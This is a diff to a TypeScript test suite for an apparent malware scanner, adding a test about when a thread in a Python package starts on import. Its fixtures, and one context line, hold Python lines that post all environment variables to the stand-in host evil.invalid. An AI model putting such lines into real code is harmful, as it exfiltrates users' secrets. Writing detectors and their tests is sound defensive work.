@@ -317,6 +317,27 @@ test.each([
   expect(isBlocked(path, lines)).toBe(true);
 });
 
+test('a thread is started by whatever module starts it', () => {
+  const files = {
+    'fixture-1.0/pkg/__init__.py': 'from . import b',
+    'fixture-1.0/pkg/a.py': [
+      'import os, requests, threading',
+      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ)).json()',
+      'thread = threading.Thread(target=tell)',
+    ].join('\n'),
+  };
+  const reaches = (starter: string): string[] =>
+    judgeSources(sourceTree({ ...files, 'fixture-1.0/pkg/b.py': starter }), python).findings.flatMap(
+      ({ severity, reach = '' }) => (severity === BLOCKED ? [reach] : []),
+    );
+  expect(reaches('from .a import thread\nthread.start()\n')).toContain('import');
+  expect(reaches('from .a import thread\ndef go(): thread.start()\n')).not.toContain('import');
+  expect(reaches('from .a import thread\nif __name__ == "__main__":\n    thread.start()\n')).not.toContain(
+    'import',
+  );
+  expect(reaches('import threading\nthreading.Thread(target=print).start()\n')).not.toContain('import');
+});
+
 test('programs that lie beside modules are run by whoever starts them', () => {
   const lines = ['import os, requests', 'requests.post("https://evil.invalid", json=dict(os.environ))'];
   const at = (files: Record<string, string>): string[] =>
